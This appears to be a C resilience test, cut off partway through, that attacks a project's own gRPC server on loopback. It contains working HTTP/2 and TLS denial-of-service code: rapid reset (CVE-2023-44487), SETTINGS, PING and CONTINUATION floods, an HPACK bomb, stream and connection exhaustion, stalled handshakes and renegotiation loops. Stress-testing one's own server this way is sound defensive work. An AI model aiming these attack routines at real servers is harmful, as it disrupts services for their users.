/* HTTP/2 and TLS attacks on the real eventsourcing_grpc_server (issue 21, item 2): rapid reset
 * (CVE-2023-44487), SETTINGS and PING floods, an HPACK bomb, a CONTINUATION flood, many streams
 * on one connection, many connections (h2load), readers that never drain their replies or their
 * subscription, and TLS handshakes that stall or ask to renegotiate. Each attack runs for
 * ATTACK_MS (ESG_ATTACK_SECONDS overrides it, for the table in docs/reliability.md) while a
 * bystander, a well-behaved client on a connection of its own, keeps calling Ping and
 * create_new_order: every one of its calls must succeed, the memory of the server (and of its
 * guard) must stay under a bound, and the server must live on and stop cleanly at the end.
 *
 * Each HTTP/2 attack runs twice: through nghttpx configured as deploy/nghttpx/nghttpx.conf
 * says (the guard of a port that peers reach), and straight at the server. gRPC 1.51 alone
 * does not bound some of them (is_guard_only below); those run straight at it only with
 * ESG_ATTACK_UNGUARDED=1, which prints their rows without judging them, for the table.
 * Each case prints one row: what the attacker sent, what it got back, what the bystander
 * saw, and the CPU time and peak resident memory the server (and nghttpx) spent on it. */
#include "testutil.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

#include "core/clock.h"
#include "eventsourcing_grpc/protos/application.pb-c.h"
#include "eventsourcing_grpc_c/v1/node.pb-c.h"
#include "h2_wire.h"
#include "raw_call.h"
#include "subprocess.h"

#define PATH_PING "/eventsourcing_grpc.Application/Ping"
#define PATH_CALL "/eventsourcing_grpc.Application/CallApplicationMethod"
#define PATH_NOTIFICATIONS "/eventsourcing_grpc.Application/GetNotifications"
#define PATH_SUBSCRIBE "/eventsourcing_grpc_c.v1.Node/Subscribe"

#define NGHTTPX "/usr/sbin/nghttpx"

/* How long each attack lasts, unless ESG_ATTACK_SECONDS says otherwise. */
#define ATTACK_MS 4000
/* The bystander's deadline per call: generous, the machine is shared with the attacker (and
 * a sanitized server is several times slower). */
#if defined(__SANITIZE_THREAD__) || defined(__SANITIZE_ADDRESS__)
#define BYSTANDER_DEADLINE_MS 30000
#else
#define BYSTANDER_DEADLINE_MS 10000
#endif
/* Orders created before the attacks, so that pages of notifications are full (1000 a page). */
#define N_ORDERS 2000

/* The sanitizers' shadow memory and redzones count in the RSS (TSan's about four times what
 * it shadows; ASan's redzones and allocator caches about as much for many small blocks). */
#if defined(__SANITIZE_THREAD__) || defined(__SANITIZE_ADDRESS__)
#define RSS_FACTOR 4
#else
#define RSS_FACTOR 1
#endif
/* Calls a second the bystander must make at least, on average (it makes 40 when nothing else
 * runs); sanitized, everything is several times slower, and one is enough. */
#if defined(__SANITIZE_THREAD__) || defined(__SANITIZE_ADDRESS__)
#define MIN_CALLS_PER_SECOND 0
#else
#define MIN_CALLS_PER_SECOND 1
#endif
/* Requests an attack that never reads makes at most. Under TSan, gRPC's cancellation of
 * thousands of them when the connections close trips thousands of (suppressed) reports of
 * races inside gRPC, each costly enough that the server then needed over a minute to stop;
 * 1,000 still hold four times the server's 64 MiB of unread replies. */
#if defined(__SANITIZE_THREAD__)
#define MAX_UNREAD_REQUESTS 1000
#else
#define MAX_UNREAD_REQUESTS 1000000
#endif
/* h2load's connections (100 streams each). nghttpx queues their calls in arrival order, the
 * bystander's among them: a sanitized server, ten times slower, gets fewer, or the
 * bystander's call waits past its deadline behind 50,000 others. Under TSan fewer again: the
 * streams in flight when h2load stops are all cancelled at once, and the server then burns
 * CPU for a while (TSan builds only: TSan's handling of the suppressed races inside gRPC that
 * mass cancellation trips, as with MAX_UNREAD_REQUESTS), every call waiting meanwhile. With
 * 100 connections it could not stop in time in CI; with 20 it burned up to 29 s in one run of
 * six here, and a bystander's Ping missed its 30 s deadline; with 10, at most 7 s in ten. */
#if defined(__SANITIZE_THREAD__)
#define H2LOAD_CONNECTIONS "10"
#elif defined(__SANITIZE_ADDRESS__)
#define H2LOAD_CONNECTIONS "100"
#else
#define H2LOAD_CONNECTIONS "500"
#endif
/* How far above its RSS before an attack the server's peak may go during it, and nghttpx's
 * (it holds the requests of its clients' streams while the server's 100 are busy: 220 to 340
 * MiB measured for h2load's 500 connections of 100 streams, 256 of them taken at once). */
#define PEAK_GROWTH_KIB (RSS_FACTOR * 192 * 1024)
#define GUARD_PEAK_GROWTH_KIB (384 * 1024)

typedef struct guard {
    pid_t pid;
    int port;
    char log[1100];
} guard;

/* Each case starts its servers afresh, so that what one attack left in the allocator does not
 * hide what the next one costs; the database with its orders stays. */
typedef struct fixture {
    char *dir;
    guard guard;          /* nghttpx in front of plain */
    server_process plain; /* local credentials on localhost */
    server_process tls;   /* mutual TLS on 127.0.0.1 */
    char plain_target[64], tls_target[64];
    bool has_nghttpx;
    int attack_ms;
    bool is_unguarded_run; /* ESG_ATTACK_UNGUARDED: is_guard_only cases straight at it too */
} fixture;

static fixture the;

/* ---- Requests ---- */

static size_t grpc_message(uint8_t *out, size_t size, const ProtobufCMessage *message)
{
    size_t len = protobuf_c_message_get_packed_size(message);
    assert_true(len + 5 <= size);
    out[0] = 0;
    h2_put_be32(out + 1, (uint32_t)len);
    protobuf_c_message_pack(message, out + 5);
    return len + 5;
}

static size_t create_order_request(uint8_t *out, size_t size)
{
    EventsourcingGrpc__MethodRequest request = EVENTSOURCING_GRPC__METHOD_REQUEST__INIT;
    request.method_name = "create_new_order";
    request.args = (ProtobufCBinaryData){2, (uint8_t *)"[]"};
    request.kwargs = (ProtobufCBinaryData){2, (uint8_t *)"{}"};
    return grpc_message(out, size, &request.base);
}

/* ---- The server's costs ---- */

/* User plus system CPU time of pid so far, in seconds (/proc/PID/stat fields 14 and 15). */
static double process_cpu_seconds(pid_t pid)
{
    char path[64], text[1024];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    FILE *f = fopen(path, "r");
    assert_non_null(f);
    size_t n = fread(text, 1, sizeof text - 1, f);
    fclose(f);
    text[n] = '\0';
    const char *p = strrchr(text, ')'); /* the command may hold spaces */
    assert_non_null(p);
    unsigned long utime = 0, stime = 0;
    int matched =
        sscanf(p + 2, "%*c %*d %*d %*d %*d %*d %*u %*u %*u %*u %*u %lu %lu", &utime, &stime);
    assert_int_equal(matched, 2);
    return (double)(utime + stime) / (double)sysconf(_SC_CLK_TCK);
}

/* ---- The bystander: a well-behaved client calling all along ---- */

typedef struct bystander {
    grpc_channel *channel;
    pthread_t thread;
    atomic_bool is_stopping;
    int n_ok, n_failed;
    int64_t max_ms;
    char first_failure[600];
} bystander;

static void *bystander_main(void *arg)
{
    bystander *b = arg;
    uint8_t create[64];
    size_t create_len = create_order_request(create, sizeof create);
    for (int i = 0; !atomic_load(&b->is_stopping); i++) {
        int64_t start = esg_clock_now_ms();
        raw_reply reply;
        /* Every other call a command: it writes, so that subscriptions have news. */
        if (i % 2 == 0)
            raw_call(b->channel, PATH_PING, (const uint8_t *)"", 0, BYSTANDER_DEADLINE_MS, &reply);
        else
            raw_call(b->channel, PATH_CALL, create + 5, create_len - 5, BYSTANDER_DEADLINE_MS,
                     &reply);
        int64_t took = esg_clock_now_ms() - start;
        if (took > b->max_ms)
            b->max_ms = took;
        if (reply.status == GRPC_STATUS_OK) {
            b->n_ok++;
        } else if (b->n_failed++ == 0) {
            snprintf(b->first_failure, sizeof b->first_failure, "%s: status %d '%s'",
                     i % 2 == 0 ? "Ping" : "create_new_order", reply.status, reply.details);
        }
        raw_reply_clear(&reply);
        usleep(20000);
    }
    return NULL;
}

static void bystander_start(bystander *b, grpc_channel *channel)
{
    memset(b, 0, sizeof *b);
    b->channel = channel;
    assert_int_equal(pthread_create(&b->thread, NULL, bystander_main, b), 0);
}

static void bystander_stop(bystander *b)
{
    atomic_store(&b->is_stopping, true);
    pthread_join(b->thread, NULL);
    grpc_channel_destroy(b->channel);
}

/* ---- The attacker's connections ---- */

#define MAX_HELD 256 /* connections an attacker keeps open at once */

typedef struct attacker {
    int port;
    bool is_reading;      /* reads (and drops) what the server sends */
    uint8_t settings[64]; /* the payload of its first SETTINGS frame */
    size_t settings_len;
    int fd;             /* the connection it writes on; -1 before the first */
    int held[MAX_HELD]; /* older connections it keeps open without using them */
    int n_held;
    uint32_t next_stream; /* on fd */
    int64_t end_ms;       /* when the attack is over (esg_clock_now_ms) */
    /* What it did and what it got: */
    long n_frames;
    long n_bytes;
    int n_connections;
    int n_closed; /* connections the server closed */
    int n_goaways;
    long n_resets; /* RST_STREAM frames received */
    /* Parsing what it reads on fd: */
    uint8_t head[9];
    size_t head_len;
    size_t skip; /* payload bytes of the current frame still to drop */
} attacker;

static bool is_over(const attacker *a)
{
    return esg_clock_now_ms() >= a->end_ms;
}

static void attacker_open(attacker *a)
{
    a->fd = h2_connect_loopback(a->port);
    struct timeval timeout = {.tv_sec = 0, .tv_usec = 100000};
    setsockopt(a->fd, SOL_SOCKET, SO_SNDTIMEO, &timeout, sizeof timeout);
    a->next_stream = 1;
    a->head_len = 0;
    a->skip = 0;
    a->n_connections++;
    h2_send_all(a->fd, h2_client_preface, strlen(h2_client_preface));
    h2_send_frame(a->fd, H2_SETTINGS, 0, 0, a->settings, a->settings_len);
}

/* The connection is over: the server closed it. Another one takes its place. */
static void attacker_reopen(attacker *a)
{
    close(a->fd);
    a->n_closed++;
    if (!is_over(a))
        attacker_open(a);
    else
        a->fd = -1;
}

/* Keeps fd open unused (up to MAX_HELD of them) and opens another one to write on. */
static void attacker_hold_and_open(attacker *a)
{
    if (a->n_held == MAX_HELD)
        close(a->fd);
    else
        a->held[a->n_held++] = a->fd;
    attacker_open(a);
}

static void attacker_close_all(attacker *a)
{
    if (a->fd >= 0)
        close(a->fd);
    a->fd = -1;
    for (int i = 0; i < a->n_held; i++)
        close(a->held[i]);
    a->n_held = 0;
}

/* Reads what has come on fd without waiting, counting GOAWAY and RST_STREAM frames; false
 * (after a reopen) when the server closed the connection. */
static bool attacker_drain(attacker *a)
{
    uint8_t buffer[65536];
    for (;;) {
        ssize_t n = recv(a->fd, buffer, sizeof buffer, MSG_DONTWAIT);
        if (n < 0 && (errno == EAGAIN || errno == EINTR))
            return true;
        if (n <= 0) {
            attacker_reopen(a);
            return false;
        }
        for (size_t i = 0; i < (size_t)n;) {
            if (a->skip > 0) {
                size_t take = (size_t)n - i < a->skip ? (size_t)n - i : a->skip;
                a->skip -= take;
                i += take;
                continue;
            }
            a->head[a->head_len++] = buffer[i++];
            if (a->head_len == 9) {
                a->head_len = 0;
                a->skip = (size_t)a->head[0] << 16 | (size_t)a->head[1] << 8 | a->head[2];
                a->n_goaways += a->head[3] == H2_GOAWAY;
                a->n_resets += a->head[3] == H2_RST_STREAM;
            }
        }
    }
}

/* Sends len bytes (n_frames frames) on fd, waiting while the server does not read until the
 * attack is over; false (after a reopen) when the server closed the connection. */
static bool attacker_send(attacker *a, const void *data, size_t len, long n_frames)
{
    const uint8_t *p = data;
    while (len > 0) {
        ssize_t n = send(a->fd, p, len, MSG_NOSIGNAL);
        if (n < 0 && (errno == EAGAIN || errno == EINTR)) {
            if (is_over(a))
                return true;
            if (a->is_reading && !attacker_drain(a))
                return false;
            continue;
        }
        if (n <= 0) {
            attacker_reopen(a);
            return false;
        }
        p += n;
        len -= (size_t)n;
        a->n_bytes += n;
    }
    a->n_frames += n_frames;
    return !a->is_reading || attacker_drain(a);
}

/* ---- Servers: started for each case (see the fixture) ---- */

static void start_plain_server(bool is_guarded);
static void start_tls_server(void);
static void stop_servers(void);

/* ---- The attacks: each sends until the attack is over ---- */

typedef void attack_fn(attacker *a);

/* The frames that open a stream with a Ping request: HEADERS, then the empty message. */
static size_t put_ping_request(uint8_t *out, uint32_t stream, bool is_ended)
{
    hpack_block headers = {.len = 0};
    hpack_put_grpc_request(&headers, PATH_PING);
    size_t n = h2_frame_put(out, H2_HEADERS, H2_END_HEADERS, stream, headers.bytes, headers.len);
    static const uint8_t empty_message[5] = {0};
    n += h2_frame_put(out + n, H2_DATA, is_ended ? H2_END_STREAM : 0, stream, empty_message,
                      sizeof empty_message);
    return n;
}

/* CVE-2023-44487: streams opened and reset at once, as fast as the server takes them. */
static void rapid_reset(attacker *a)
{
    enum { BATCH = 100 };
    static uint8_t batch[BATCH * 256];
    static const uint8_t cancel[4] = {0, 0, 0, 8};
    while (!is_over(a)) {
        size_t n = 0;
        for (int i = 0; i < BATCH; i++, a->next_stream += 2) {
            n += put_ping_request(batch + n, a->next_stream, false);
            n += h2_frame_put(batch + n, H2_RST_STREAM, 0, a->next_stream, cancel, sizeof cancel);
        }
        attacker_send(a, batch, n, 3 * BATCH);
    }
}

/* SETTINGS frames, each of which the server must acknowledge. */
static void settings_flood(attacker *a)
{
    enum { BATCH = 1000 };
    static uint8_t batch[BATCH * 15];
    uint8_t setting[6] = {0, H2_SETTINGS_INITIAL_WINDOW_SIZE, 0, 0, 0xff, 0xff};
    size_t n = 0;
    for (int i = 0; i < BATCH; i++)
        n += h2_frame_put(batch + n, H2_SETTINGS, 0, 0, setting, sizeof setting);
    while (!is_over(a))
        attacker_send(a, batch, n, BATCH);
}

/* PING frames, each of which asks for an answer. */
static void ping_flood(attacker *a)
{
    enum { BATCH = 1000 };
    static uint8_t batch[BATCH * 17];
    size_t n = 0;
    for (int i = 0; i < BATCH; i++) {
        uint8_t opaque[8] = {(uint8_t)i};
        n += h2_frame_put(batch + n, H2_PING, 0, 0, opaque, sizeof opaque);
    }
    while (!is_over(a))
        attacker_send(a, batch, n, BATCH);
}

/* A header of 4,000 bytes put in the server's HPACK table, then referred to by one byte each
 * for the rest of the frame: ~12,000 references, 48 MB of headers, in 16 KiB. */
static void hpack_bomb(attacker *a)
{
    static hpack_block block;
    static char value[4001];
    memset(value, 'b', sizeof value - 1);
    block.len = 0;
    hpack_put_grpc_request(&block, PATH_PING);
    hpack_put_indexed_new(&block, "x-bomb", value);
    while (block.len < sizeof block.bytes)
        block.bytes[block.len++] = 0x80 | 62; /* the newest entry of the dynamic table */
    while (!is_over(a)) {
        attacker_send(a, NULL, 0, 0);
        uint8_t head[9];
        h2_frame_head(head, block.len, H2_HEADERS, H2_END_HEADERS | H2_END_STREAM, a->next_stream);
        a->next_stream += 2;
        if (attacker_send(a, head, sizeof head, 0))
            attacker_send(a, block.bytes, block.len, 1);
    }
}

/* A header block that never ends: HEADERS, then CONTINUATION frames of 1,000-byte headers. */
static void continuation_flood(attacker *a)
{
    static hpack_block start, more;
    static char value[1001];
    memset(value, 'c', sizeof value - 1);
    start.len = 0;
    hpack_put_grpc_request(&start, PATH_PING);
    more.len = 0;
    for (int i = 0; more.len + 1100 < sizeof more.bytes; i++) {
        char name[32];
        snprintf(name, sizeof name, "x-flood-%d", i);
        hpack_put(&more, name, value);
    }
    uint8_t head[9];
    int connections = -1;
    while (!is_over(a)) {
        if (a->n_connections != connections) { /* a new connection: a new block */
            connections = a->n_connections;
            h2_frame_head(head, start.len, H2_HEADERS, 0, 1);
            if (!attacker_send(a, head, sizeof head, 0) ||
                !attacker_send(a, start.bytes, start.len, 1))
                continue;
        }
        h2_frame_head(head, more.len, H2_CONTINUATION, 0, 1);
        if (attacker_send(a, head, sizeof head, 0))
            attacker_send(a, more.bytes, more.len, 1);
    }
}

/* Streams opened and left open (the request never ends), as many as the server lets in. */
static void many_streams(attacker *a)
{
    enum { BATCH = 100 };
    static uint8_t batch[BATCH * 256];
    while (!is_over(a)) {
        size_t n = 0;
        for (int i = 0; i < BATCH; i++, a->next_stream += 2)
            n += put_ping_request(batch + n, a->next_stream, false);
        attacker_send(a, batch, n, 2 * BATCH);
        if (a->next_stream > 200001) /* 100,000 streams on this connection: hold it, and on */
            attacker_hold_and_open(a);
    }
}

/* Requests of path with message (a gRPC message, framed) on connections that never read a
 * byte: 100 streams on a connection, then another connection, up to MAX_UNREAD_REQUESTS. */
static void send_unread_requests(attacker *a, const char *path, const uint8_t *message,
                                 size_t message_len)
{
    hpack_block headers = {.len = 0};
    hpack_put_grpc_request(&headers, path);
    static uint8_t batch[16 * 1024];
    while (!is_over(a)) {
        size_t n = h2_frame_put(batch, H2_HEADERS, H2_END_HEADERS, a->next_stream, headers.bytes,
                                headers.len);
        n += h2_frame_put(batch + n, H2_DATA, H2_END_STREAM, a->next_stream, message, message_len);
        a->next_stream += 2;
        attacker_send(a, batch, n, 2);
        if (a->next_stream > 200)
            attacker_hold_and_open(a);
        usleep(1000);
        if (a->n_frames >= 2 * MAX_UNREAD_REQUESTS)
            while (!is_over(a)) /* enough asked: hold the connections until the end */
                usleep(10000);
    }
}

/* Whole pages of notifications (1,000 orders, ~230 KB each), never read. */
static void unread_pages(attacker *a)
{
    EventsourcingGrpc__NotificationsRequest request =
        EVENTSOURCING_GRPC__NOTIFICATIONS_REQUEST__INIT;
    request.start = "1";
    request.limit = "1000";
    uint8_t message[64];
    size_t message_len = grpc_message(message, sizeof message, &request.base);
    send_unread_requests(a, PATH_NOTIFICATIONS, message, message_len);
}

/* Subscriptions whose pages are never read; the bystander's orders give them news all along. */
static void unread_subscriptions(attacker *a)
{
    EventsourcingGrpcC__V1__SubscribeRequest request =
        EVENTSOURCING_GRPC_C__V1__SUBSCRIBE_REQUEST__INIT;
    request.follower_name = "Stalled";
    request.start = 1;
    request.limit = 1000;
    uint8_t message[64];
    size_t message_len = grpc_message(message, sizeof message, &request.base);
    send_unread_requests(a, PATH_SUBSCRIBE, message, message_len);
}

/* ---- Running a case ---- */

typedef struct attack_case {
    const char *name;
    attack_fn *fn;
    bool is_reading;
    bool has_zero_window; /* its SETTINGS say INITIAL_WINDOW_SIZE 0 */
    bool is_guard_only;   /* gRPC 1.51 alone does not bound it: see the top */
    bool is_guarded;      /* this run goes through nghttpx */
} attack_case;

/* What one process spent over an attack. */
typedef struct process_costs {
    pid_t pid; /* 0: no such process */
    double cpu_seconds;
    long rss_before_kib, peak_growth_kib, rss_after_kib;
} process_costs;

typedef struct costs {
    process_costs server, guard;
} costs;

static process_costs process_costs_start(pid_t pid)
{
    if (pid == 0)
        return (process_costs){0};
    process_reset_peak_rss(pid);
    return (process_costs){.pid = pid,
                           .cpu_seconds = process_cpu_seconds(pid),
                           .rss_before_kib = process_rss_kib(pid)};
}

static void process_costs_end(process_costs *c)
{
    if (c->pid == 0)
        return;
    c->cpu_seconds = process_cpu_seconds(c->pid) - c->cpu_seconds;
    c->peak_growth_kib = process_peak_rss_kib(c->pid) - c->rss_before_kib;
    c->rss_after_kib = process_rss_kib(c->pid);
}

/* guard_pid: nghttpx's when the attack goes through it, or 0. */
static costs costs_start(const server_process *server, pid_t guard_pid)
{
    return (costs){process_costs_start(server->pid), process_costs_start(guard_pid)};
}

static void costs_end(costs *c)
{
    process_costs_end(&c->server);
    process_costs_end(&c->guard);
}

static void describe(const process_costs *c, char *cpu, size_t cpu_size, char *rss, size_t rss_size)
{
    if (c->pid == 0) {
        snprintf(cpu, cpu_size, "-");
        snprintf(rss, rss_size, "-");
        return;
    }
    snprintf(cpu, cpu_size, "%.1f s", c->cpu_seconds);
    snprintf(rss, rss_size, "+%ld MiB (%ld after)", c->peak_growth_kib / 1024,
             c->rss_after_kib / 1024);
}

static void check_growth(const char *name, const char *who, const process_costs *c, long bound_kib)
{
    if (c->pid != 0 && c->peak_growth_kib > bound_kib)
        fail_msg("%s: the peak RSS of %s grew by %ld KiB (bound %ld KiB)", name, who,
                 c->peak_growth_kib, bound_kib);
}

/* The end of a log, to tell why calls failed (nghttpx says why it reset them). */
static void print_log_tail(const char *who, const char *path)
{
    char *text = read_text_file(path);
    if (text == NULL)
        return;
    size_t len = strlen(text), keep = 4000;
    print_message("the end of %s's log:\n%s\n", who, len > keep ? text + len - keep : text);
    free(text);
}

/* Prints the case's row and, when is_judged, checks what holds for every case. */
static void report(const char *name, const char *sent, const char *server_did, const bystander *b,
                   const costs *c, const server_process *server, bool is_judged)
{
    char server_cpu[32], server_rss[64], guard_cpu[32], guard_rss[64];
    describe(&c->server, server_cpu, sizeof server_cpu, server_rss, sizeof server_rss);
    describe(&c->guard, guard_cpu, sizeof guard_cpu, guard_rss, sizeof guard_rss);
    print_message("| %s | %s | %s | %d ok, %d failed, slowest %lld ms | %s | %s | %s | %s |\n",
                  name, sent, server_did, b->n_ok, b->n_failed, (long long)b->max_ms, server_cpu,
                  server_rss, guard_cpu, guard_rss);
    server_assert_alive(server);
    if (!is_judged)
        return;
    if (b->n_failed > 0) {
        if (c->guard.pid != 0)
            print_log_tail("nghttpx", the.guard.log);
        fail_msg("%s: the bystander's calls failed (%d), the first: %s", name, b->n_failed,
                 b->first_failure);
    }
    /* Served, not only not failed. */
    if (b->n_ok == 0 || b->n_ok < MIN_CALLS_PER_SECOND * the.attack_ms / 1000)
        fail_msg("%s: the bystander made only %d calls in %d ms", name, b->n_ok, the.attack_ms);
    check_growth(name, "the server", &c->server, PEAK_GROWTH_KIB);
    check_growth(name, "nghttpx", &c->guard, GUARD_PEAK_GROWTH_KIB);
}

static void run_attack(void **state)
{
    const attack_case *ac = *state;
    bool is_judged = ac->is_guarded || !ac->is_guard_only;
    if (ac->is_guarded && !the.has_nghttpx) {
        print_message("nghttpx is missing (Debian's nghttp2-proxy)\n");
        skip();
    }
    if (!is_judged && !the.is_unguarded_run) {
        print_message("%s: gRPC 1.51 alone does not bound it (ESG_ATTACK_UNGUARDED=1 runs it)\n",
                      ac->name);
        skip();
    }
#if defined(__SANITIZE_THREAD__) || defined(__SANITIZE_ADDRESS__)
    /* A case judged straight at the server is not run again through nghttpx in a sanitizer
     * build: nghttpx is not instrumented, and behind it the server sees less of the attack than
     * straight. The plain build runs both. */
    if (ac->is_guarded && !ac->is_guard_only) {
        print_message("%s: run straight at the sanitized server only\n", ac->name);
        skip();
    }
#endif
    start_plain_server(ac->is_guarded);
    int port = ac->is_guarded ? the.guard.port : the.plain.port;
    char target[64];
    snprintf(target, sizeof target, "localhost:%d", port);
    attacker a = {.port = port, .is_reading = ac->is_reading, .fd = -1};
    if (ac->has_zero_window) {
        static const uint8_t zero_window[6] = {0, H2_SETTINGS_INITIAL_WINDOW_SIZE, 0, 0, 0, 0};
        memcpy(a.settings, zero_window, sizeof zero_window);
        a.settings_len = sizeof zero_window;
    }
    bystander b;
    bystander_start(&b, raw_channel(target, NULL));
    costs c = costs_start(&the.plain, ac->is_guarded ? the.guard.pid : 0);
    a.end_ms = esg_clock_now_ms() + the.attack_ms;
    attacker_open(&a);
    ac->fn(&a);
    costs_end(&c);
    bystander_stop(&b);
    char sent[128], server_did[128];
    snprintf(sent, sizeof sent, "%ld frames, %ld MiB on %d connections", a.n_frames,
             a.n_bytes >> 20, a.n_connections);
    if (ac->is_reading)
        snprintf(server_did, sizeof server_did, "closed %d, %d GOAWAY, %ld RST_STREAM", a.n_closed,
                 a.n_goaways, a.n_resets);
    else
        snprintf(server_did, sizeof server_did, "closed %d (not read)", a.n_closed);
    attacker_close_all(&a);
    char name[96];
    snprintf(name, sizeof name, "%s%s", ac->name, ac->is_guarded ? ", through nghttpx" : "");
    report(name, sent, server_did, &b, &c, &the.plain, is_judged);
    assert_ping_ok(target);
    stop_servers();
}

/* ---- Many connections: h2load ---- */

/* state: whether through nghttpx (a bool). */
static void test_many_connections(void **state)
{
    bool is_guarded = *(const bool *)*state;
    if (access("/usr/bin/h2load", X_OK) != 0) {
        print_message("h2load is missing (Debian's nghttp2-client)\n");
        skip();
    }
    if (is_guarded && !the.has_nghttpx) {
        print_message("nghttpx is missing (Debian's nghttp2-proxy)\n");
        skip();
    }
    if (!is_guarded && !the.is_unguarded_run) { /* 100 streams on each of as many connections */
        print_message("gRPC 1.51 alone does not bound it (ESG_ATTACK_UNGUARDED=1 runs it)\n");
        skip();
    }
    char body_path[1100], log[1100], url[128], duration[32];
    snprintf(body_path, sizeof body_path, "%s/ping.bin", the.dir);
    snprintf(log, sizeof log, "%s/h2load-%s.log", the.dir, is_guarded ? "guarded" : "straight");
    FILE *f = fopen(body_path, "wb");
    assert_non_null(f);
    static const uint8_t empty_message[5] = {0};
    assert_int_equal(fwrite(empty_message, 1, sizeof empty_message, f), sizeof empty_message);
    fclose(f);
    snprintf(duration, sizeof duration, "%d", the.attack_ms / 1000 > 0 ? the.attack_ms / 1000 : 1);
    /* Many connections, 100 streams each at once, for the attack's length. */
    char *argv[] = {"/usr/bin/h2load",
                    "-c",
                    H2LOAD_CONNECTIONS,
                    "-m",
                    "100",
                    "-t",
                    "1",
                    "-D",
                    duration,
                    "-d",
                    body_path,
                    "-H",
                    "content-type: application/grpc",
                    "-H",
                    "te: trailers",
                    url,
                    NULL};
    start_plain_server(is_guarded);
    int port = is_guarded ? the.guard.port : the.plain.port;
    char target[64];
    snprintf(target, sizeof target, "localhost:%d", port);
    snprintf(url, sizeof url, "http://127.0.0.1:%d%s", port, PATH_PING);
    bystander b;
    bystander_start(&b, raw_channel(target, NULL));
    costs c = costs_start(&the.plain, is_guarded ? the.guard.pid : 0);
    int status = run_program(argv, log, NULL, 0);
    costs_end(&c);
    bystander_stop(&b);
    char *text = read_text_file(log);
    if (!WIFEXITED(status) || WEXITSTATUS(status) != 0)
        fail_msg("h2load failed (wait status %d):\n%s", status, text);
    long done = 0, succeeded = 0;
    const char *requests = strstr(text, "requests: ");
    assert_non_null(requests);
    assert_int_equal(sscanf(requests, "requests: %*d total, %*d started, %ld done, %ld succeeded",
                            &done, &succeeded),
                     2);
    free(text);
    char sent[128];
    snprintf(sent, sizeof sent, "h2load: %s connections x 100 streams, %ld Pings",
             H2LOAD_CONNECTIONS, done);
    char server_did[64];
    snprintf(server_did, sizeof server_did, "answered %ld", succeeded);
    report(is_guarded ? "many connections, through nghttpx" : "many connections", sent, server_did,
           &b, &c, &the.plain, is_guarded);
    assert_true(succeeded > 0);
    stop_servers();
}

/* ---- TLS ---- */

/* A TLS client of at most max_version with the payments certificate (a peer the server lets
 * in: what it asks for after the handshake is the attack). */
static SSL_CTX *tls_client_context(int max_version)
{
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    assert_non_null(ctx);
    SSL_CTX_set_max_proto_version(ctx, max_version);
    SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL); /* the attacker does not care who it is */
    char key[1100], cert[1100];
    snprintf(key, sizeof key, "%s/pki/payments/payments.key", the.dir);
    snprintf(cert, sizeof cert, "%s/pki/payments/payments.crt", the.dir);
    assert_int_equal(SSL_CTX_use_certificate_file(ctx, cert, SSL_FILETYPE_PEM), 1);
    assert_int_equal(SSL_CTX_use_PrivateKey_file(ctx, key, SSL_FILETYPE_PEM), 1);
    return ctx;
}

/* Starts the TLS server, its bystander (the payments certificate) and the count of costs. */
static costs start_tls_case(bystander *b)
{
    start_tls_server();
    bystander_start(b, raw_tls_channel_from_files(the.tls_target, the.dir, "pki/root/root.crt",
                                                  "pki/payments/payments.key",
                                                  "pki/payments/payments.crt", "orders"));
    return costs_start(&the.tls, 0);
}

/* Connections that begin a TLS handshake and stall: half send nothing, half the first bytes of
 * a ClientHello. They are held for the attack's length while the bystander calls over TLS. */
static void test_stalled_handshakes(void **state)
{
    (void)state;
    enum { N_STALLED = 400 };
    static const uint8_t hello_start[] = {0x16, 3, 1, 0, 0xa5, 1, 0, 0, 0xa1, 3, 3};
    int fds[N_STALLED];
    bystander b;
    costs c = start_tls_case(&b);
    for (int i = 0; i < N_STALLED; i++) {
        fds[i] = h2_connect_loopback(the.tls.port);
        if (i % 2 == 1)
            h2_send_all(fds[i], hello_start, sizeof hello_start);
    }
    usleep((useconds_t)the.attack_ms * 1000);
    int n_closed = 0;
    for (int i = 0; i < N_STALLED; i++) {
        struct pollfd p = {.fd = fds[i], .events = POLLIN};
        uint8_t byte;
        n_closed += poll(&p, 1, 0) == 1 && recv(fds[i], &byte, 1, MSG_DONTWAIT) <= 0;
        close(fds[i]);
    }
    costs_end(&c);
    bystander_stop(&b);
    char sent[64], server_did[64];
    snprintf(sent, sizeof sent, "%d handshakes begun and stalled", N_STALLED);
    snprintf(server_did, sizeof server_did, "closed %d", n_closed);
    report("stalled TLS handshakes", sent, server_did, &b, &c, &the.tls, true);
    stop_servers();
}

/* TLS 1.2 connections that ask to renegotiate, again and again: the server must refuse (TLS
 * 1.3 has no renegotiation; a 1.2 server that allows it pays a handshake for each request). */
static void test_renegotiation(void **state)
{
    (void)state;
    SSL_CTX *ctx = tls_client_context(TLS1_2_VERSION);
    bystander b;
    costs c = start_tls_case(&b);
    int64_t end = esg_clock_now_ms() + the.attack_ms;
    int n_connections = 0, n_handshakes = 0, n_renegotiated = 0;
    while (esg_clock_now_ms() < end) {
        int fd = h2_connect_loopback(the.tls.port);
        n_connections++;
        SSL *ssl = SSL_new(ctx);
        assert_non_null(ssl);
        SSL_set_fd(ssl, fd);
        SSL_set_alpn_protos(ssl, (const uint8_t *)"\x02h2", 3);
        if (SSL_connect(ssl) == 1) {
            n_handshakes++;
            while (esg_clock_now_ms() < end && SSL_renegotiate(ssl) == 1 &&
                   SSL_do_handshake(ssl) == 1) {
                uint8_t byte;
                /* The renegotiation happens when the server reads the request. */
                if (SSL_write(ssl, h2_client_preface, (int)strlen(h2_client_preface)) <= 0 ||
                    SSL_read(ssl, &byte, 1) <= 0)
                    break;
                if (SSL_renegotiate_pending(ssl))
                    break;
                n_renegotiated++;
            }
        }
        ERR_clear_error();
        SSL_free(ssl);
        close(fd);
    }
    SSL_CTX_free(ctx);
    costs_end(&c);
    bystander_stop(&b);
    char sent[96], server_did[96];
    snprintf(sent, sizeof sent, "%d TLS 1.2 connections asking to renegotiate", n_connections);
    snprintf(server_did, sizeof server_did, "%d handshakes, %d renegotiated", n_handshakes,
             n_renegotiated);
